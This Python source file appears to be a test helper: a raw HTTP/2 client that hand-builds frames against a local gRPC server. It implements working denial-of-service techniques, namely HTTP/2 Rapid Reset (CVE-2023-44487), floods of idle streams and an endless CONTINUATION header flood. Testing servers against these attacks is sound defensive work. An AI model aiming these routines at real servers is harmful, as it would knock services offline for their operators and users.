"""An HTTP/2 client that breaks the protocol's manners: frames written by hand."""

from __future__ import annotations

import contextlib
import socket
import time

_DATA, _HEADERS, _RESET, _SETTINGS, _CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
_END_STREAM, _END_HEADERS, _ACK = 0x1, 0x4, 0x1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def literal(name: str, value: str) -> bytes:
    """A header as HPACK writes it without compression; shorter than 127 bytes."""
    return b"\0" + b"".join(bytes((len(text),)) + text.encode() for text in (name, value))


def headers(port: int, path: str) -> bytes:
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": f"127.0.0.1:{port}",
    }
    fields |= {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(literal(name, value) for name, value in fields.items())


class RawClient:
    """A connection. It reads what the server sends only to see whether the server has ended it."""

    def __init__(self, port: int):
        self._port = port
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        self._socket.sendall(preface + frame(_SETTINGS, 0, 0) + frame(_SETTINGS, _ACK, 0))
        self._stream = -1

    def close(self) -> None:
        self._socket.close()

    def send(self, raw: bytes) -> bool:
        """Send bytes; returns whether the server still takes them."""
        try:
            self._socket.sendall(raw)
            self._socket.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while part := self._socket.recv(1 << 20):
                    del part
                return False
            self._socket.settimeout(5)
        except OSError:
            return False
        return True

    def reset_streams(self, path: str, number: int) -> bool:
        """Open streams and reset each at once (CVE-2023-44487)."""
        raw = b""
        for _ in range(number):
            self._stream += 2
            raw += frame(_HEADERS, _END_HEADERS, self._stream, headers(self._port, path))
            raw += frame(_RESET, 0, self._stream, (8).to_bytes(4, "big"))
        return self.send(raw)

    def open_streams(self, path: str, number: int) -> bool:
        """Open streams that send no message."""
        raw = b""
        for _ in range(number):
            self._stream += 2
            raw += frame(_HEADERS, _END_HEADERS, self._stream, headers(self._port, path))
        return self.send(raw)

    def continue_headers(self, path: str, num_bytes: int) -> int:
        """Send a header that does not end; returns the bytes that the server took."""
        self._stream += 2
        self.send(frame(_HEADERS, 0, self._stream, headers(self._port, path)))
        part = frame(_CONTINUATION, 0, self._stream, literal("x-a", "b" * 120) * 100)
        sent = 0
        while sent < num_bytes and self.send(part):
            sent += len(part)
            time.sleep(0.0005)
        return sent
